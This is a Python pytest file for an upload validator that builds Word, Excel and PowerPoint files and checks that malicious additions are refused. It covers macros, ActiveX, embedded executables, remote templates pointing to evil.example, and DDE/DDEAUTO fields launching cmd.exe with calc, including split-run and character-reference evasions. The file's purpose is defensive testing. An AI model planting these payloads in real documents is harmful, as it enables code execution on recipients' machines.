"""Office files among the evidence (issue 13 §4): a docx, xlsx or pptx made here as Word,
Excel and PowerPoint save them (python-docx, openpyxl, the parts of a pptx), then given what an
attacker adds — a VBA project, a macro-enabled content type, an Excel 4.0 macro sheet, an
ActiveX control, an OLE object, a program, a remote template or linked picture, a link to
another workbook, a Word DDE or DDEAUTO field — is refused with its message; what ordinary
documents hold (a chart's embedded workbook, a hyperlink to a web page, page-number fields)
passes. The same inside a zip."""

from __future__ import annotations

import io
import zipfile

import docx
import pytest
from openpyxl import Workbook

from junheng.checklist_core.uploads import UploadRejected, check_upload

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
PE = b"MZ\x90\x00" + b"\x00" * 60
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
CT = "http://schemas.openxmlformats.org/package/2006/content-types"


def word() -> bytes:
    document = docx.Document()
    document.add_paragraph("2025 年度音乐教室配备情况")
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def excel() -> bytes:
    book = Workbook()
    book.active.append(["学校", "音乐教室"])
    book.active.append(["城关一小", 2])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def powerpoint() -> bytes:
    """The parts PowerPoint needs of a one-slide deck."""
    pml = "application/vnd.openxmlformats-officedocument.presentationml"
    return rewritten(
        b"",
        {
            "[Content_Types].xml": (
                f'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="{CT}">'
                '<Default Extension="rels" ContentType="application/vnd.openxmlformats-'
                'package.relationships+xml"/>'
                '<Default Extension="xml" ContentType="application/xml"/>'
                '<Override PartName="/ppt/presentation.xml" '
                f'ContentType="{pml}.presentation.main+xml"/>'
                f'<Override PartName="/ppt/slides/slide1.xml" ContentType="{pml}.slide+xml"/>'
                "</Types>"
            ).encode(),
            "_rels/.rels": relationships(("officeDocument", "ppt/presentation.xml", "")),
            "ppt/presentation.xml": b'<?xml version="1.0"?><p:presentation xmlns:p="http://'
            b'schemas.openxmlformats.org/presentationml/2006/main"/>',
            "ppt/_rels/presentation.xml.rels": relationships(("slide", "slides/slide1.xml", "")),
            "ppt/slides/slide1.xml": b'<?xml version="1.0"?><p:sld xmlns:p="http://'
            b'schemas.openxmlformats.org/presentationml/2006/main"/>',
        },
    )


def relationships(*links: tuple[str, str, str]) -> bytes:
    """A relationships part: (type's last name, target, "External" or "")."""
    rows = "".join(
        f'<Relationship Id="rId{n}" Type="{OFFICE}/{kind}" Target="{target}"'
        + (f' TargetMode="{mode}"' if mode else "")
        + "/>"
        for n, (kind, target, mode) in enumerate(links, start=1)
    )
    head = f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{RELS}">'
    return f"{head}{rows}</Relationships>".encode()


def rewritten(data: bytes, parts: dict[str, bytes]) -> bytes:
    """The zip with `parts` added or replaced."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        if data:
            with zipfile.ZipFile(io.BytesIO(data)) as source:
                for info in source.infolist():
                    if info.filename not in parts:
                        target.writestr(info.filename, source.read(info))
        for name, content in parts.items():
            target.writestr(name, content)
    return buffer.getvalue()


def with_relationship(data: bytes, part_rels: str, *links: tuple[str, str, str]) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        existing = archive.read(part_rels).decode() if part_rels in archive.namelist() else ""
    extra = relationships(*links).decode()
    rows = extra[extra.index("<Relationship ") : extra.index("</Relationships>")]
    if existing:
        # ids that do not collide with the part's own
        rows = rows.replace('Id="rId', 'Id="rIdX')
        merged = existing.replace("</Relationships>", rows + "</Relationships>")
    else:
        merged = extra
    return rewritten(data, {part_rels: merged.encode()})


def check(name: str, data: bytes):
    return check_upload(name, io.BytesIO(data), len(data))


def refusal(name: str, data: bytes) -> UploadRejected:
    with pytest.raises(UploadRejected) as caught:
        check(name, data)
    return caught.value


DOCX, XLSX, PPTX = word(), excel(), powerpoint()
WORD_RELS = "word/_rels/document.xml.rels"


def test_plain_documents_made_by_office_pass():
    assert check("配备情况.docx", DOCX).kind.key == "docx"
    assert check("配备情况.xlsx", XLSX).kind.key == "xlsx"
    assert check("汇报.pptx", PPTX).kind.key == "pptx"


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("宏.docx", rewritten(DOCX, {"word/vbaProject.bin": OLE})),
        ("宏.xlsx", rewritten(XLSX, {"xl/vbaProject.bin": OLE})),
        ("宏.pptx", rewritten(PPTX, {"ppt/vbaProject.bin": OLE})),
        ("宏.docx", rewritten(DOCX, {"word/vbaData.xml": b"<wne:vbaSuppData/>"})),
        ("宏表.xlsx", rewritten(XLSX, {"xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>"})),
    ],
)
def test_a_vba_project_or_a_macro_sheet_is_refused(name, data):
    error = refusal(name, data)
    assert error.reason == "macro" and "宏" in error.zh


def test_a_macro_enabled_file_renamed_docx_is_refused_by_its_content_type():
    with zipfile.ZipFile(io.BytesIO(DOCX)) as archive:
        types = archive.read("[Content_Types].xml").decode()
    docm = types.replace(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    assert docm != types
    error = refusal("报告.docx", rewritten(DOCX, {"[Content_Types].xml": docm.encode()}))
    assert error.reason == "macro"


def test_an_activex_control_is_refused():
    data = rewritten(DOCX, {"word/activeX/activeX1.xml": b"<ax:ocx/>"})
    assert refusal("控件.docx", data).reason == "office_activex"


@pytest.mark.parametrize(
    ("name", "data"),
    [
        (
            "对象.docx",
            with_relationship(
                rewritten(DOCX, {"word/embeddings/oleObject1.bin": OLE}),
                WORD_RELS,
                ("oleObject", "embeddings/oleObject1.bin", ""),
            ),
        ),
        ("对象.xlsx", rewritten(XLSX, {"xl/embeddings/Microsoft_Word_97-2003.doc": OLE})),
        ("对象.pptx", rewritten(PPTX, {"ppt/embeddings/setup.exe": PE})),
        ("对象.docx", rewritten(DOCX, {"word/embeddings/readme.txt": b"hello"})),
    ],
)
def test_an_embedded_ole_object_or_foreign_file_is_refused(name, data):
    error = refusal(name, data)
    assert error.reason in ("office_ole", "office_program") and "内嵌" in error.zh


def test_a_program_hidden_under_any_part_name_is_refused():
    error = refusal("图.docx", rewritten(DOCX, {"word/media/image1.png": PE}))
    assert error.reason == "office_program" and "Windows" in error.zh


def test_a_chart_s_embedded_workbook_passes_and_is_checked_in_turn():
    chart = with_relationship(
        rewritten(DOCX, {"word/embeddings/Microsoft_Excel_Worksheet.xlsx": XLSX}),
        "word/charts/_rels/chart1.xml.rels",
        ("package", "../embeddings/Microsoft_Excel_Worksheet.xlsx", ""),
    )
    assert check("图表.docx", chart).kind.key == "docx"
    macro_book = rewritten(XLSX, {"xl/vbaProject.bin": OLE})
    hidden = rewritten(DOCX, {"word/embeddings/Microsoft_Excel_Worksheet.xlsx": macro_book})
    assert refusal("图表.docx", hidden).reason == "macro"


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("attachedTemplate", "http://evil.example/template.dotm"),
        ("attachedTemplate", "https://evil.example/t.dotm"),
        ("image", "file://///evil.example/share/pixel.png"),
        ("oleObject", "http://evil.example/payload.rtf"),
        ("frame", "https://evil.example/frame.html"),
        ("subDocument", "\\\\evil.example\\share\\sub.docx"),
        ("hyperlink", "file:///C:/Windows/System32/calc.exe"),
        ("hyperlink", "\\\\evil.example\\share\\x.exe"),
    ],
)
def test_a_link_office_follows_by_itself_is_refused(kind, target):
    data = with_relationship(DOCX, WORD_RELS, (kind, target, "External"))
    error = refusal("外链.docx", data)
    assert error.reason in ("office_link", "office_ole")
    if error.reason == "office_link":
        assert target[:20] in error.zh


def test_the_settings_part_s_remote_template_is_refused_too():
    data = with_relationship(
        DOCX,
        "word/_rels/settings.xml.rels",
        ("attachedTemplate", "http://evil.example/t.dotm", "External"),
    )
    assert refusal("模板.docx", data).reason == "office_link"


def test_a_hyperlink_to_a_web_page_or_mail_address_passes():
    data = with_relationship(
        DOCX,
        WORD_RELS,
        ("hyperlink", "http://www.moe.gov.cn/srcsite/A11/", "External"),
        ("hyperlink", "https://jyj.example.gov.cn/", "External"),
        ("hyperlink", "mailto:jyj@example.gov.cn", "External"),
    )
    assert check("政策.docx", data).kind.key == "docx"


def test_a_workbook_linked_to_another_workbook_is_refused():
    data = rewritten(
        XLSX,
        {
            "xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeService="cmd" '
            b'ddeTopic="/c calc"/></externalLink>'
        },
    )
    error = refusal("链接.xlsx", data)
    assert error.reason == "office_link" and "外部链接" in error.zh


def test_a_relationships_part_with_a_dtd_is_refused_as_unreadable():
    bomb = (
        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaa">]>'
        b'<Relationships xmlns="x">&a;</Relationships>'
    )
    error = refusal("实体.docx", rewritten(DOCX, {WORD_RELS: bomb}))
    assert error.reason == "corrupt"


def test_the_same_rules_hold_for_an_office_file_packed_in_a_zip():
    macro_doc = rewritten(DOCX, {"word/vbaProject.bin": OLE})
    packed = rewritten(b"", {"材料/报告.docx": macro_doc, "说明.txt": "说明".encode()})
    error = refusal("材料.zip", packed)
    assert error.reason == "macro" and "报告.docx" in error.zh
    linked = with_relationship(DOCX, WORD_RELS, ("attachedTemplate", "http://e.x/t", "External"))
    assert refusal("材料.zip", rewritten(b"", {"报告.docx": linked})).reason == "office_link"
    assert refusal("材料.zip", rewritten(b"", {"报告.docm": DOCX})).reason == "macro"
    assert check("材料.zip", rewritten(b"", {"报告.docx": DOCX, "表.xlsx": XLSX})).kind.key == "zip"


W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def word_body(body: str, part: str = "word/document.xml") -> bytes:
    """The Word document with `part` replaced by a body of the given runs."""
    xml = f'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="{W}"><w:body>{body}'
    return rewritten(DOCX, {part: (xml + "</w:body></w:document>").encode()})


def field(*instructions: str) -> str:
    """A complex field whose instruction is split over the given runs."""
    runs = "".join(
        f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>'
        for text in instructions
    )
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + runs
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


BEGIN = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
END = '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
CMD = 'c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'

# { IF 1 = 1 { DDEAUTO ... } }: the DDE field nested in another field's instruction
NESTED = (
    f"<w:p>{BEGIN}<w:r><w:instrText> IF 1 = 1 </w:instrText></w:r>"
    f"{BEGIN}<w:r><w:instrText>DDEAUTO {CMD}</w:instrText></w:r>{END}{END}</w:p>"
)


@pytest.mark.parametrize(
    "body",
    [
        field(f" DDEAUTO {CMD} "),
        field(f" DDE {CMD} "),
        field(" DD", f"EAUTO {CMD}"),  # split across runs, as Word itself sometimes saves it
        field(f" &#68;&#68;&#69;AUTO {CMD}"),  # character references
        '<w:p><w:fldSimple w:instr=" ddeauto c:\\\\windows\\\\cmd.exe &quot;/k calc&quot;">'
        "<w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>",
        NESTED,
    ],
)
def test_a_word_dde_field_is_refused(body):
    error = refusal("通知.docx", word_body(body))
    assert error.reason == "office_dde"
    assert "DDE" in error.zh


def test_a_dde_field_in_a_header_is_refused_too():
    header = (
        f'<?xml version="1.0"?><w:hdr xmlns:w="{W}">{field(f" DDEAUTO {CMD}")}</w:hdr>'
    ).encode()
    data = rewritten(DOCX, {"word/header1.xml": header})
    assert refusal("通知.docx", data).reason == "office_dde"


def test_ordinary_fields_and_the_word_dde_in_text_pass():
    body = (
        field(" PAGE ")
        + field(" TOC \\o ", '"1-3" ')
        + field(" HYPERLINK ", '"https://jyj.example.gov.cn/dde" ')
        + "<w:p><w:r><w:t>DDE 字段是一种旧的数据交换方式</w:t></w:r></w:p>"
    )
    assert check("通知.docx", word_body(body)).kind.key == "docx"


def test_a_dde_field_in_a_docx_packed_in_a_zip_is_refused():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("材料/通知.docx", word_body(field(f" DDEAUTO {CMD}")))
    error = refusal("材料.zip", buffer.getvalue())
    assert error.reason == "office_dde"
    assert "通知.docx" in error.zh
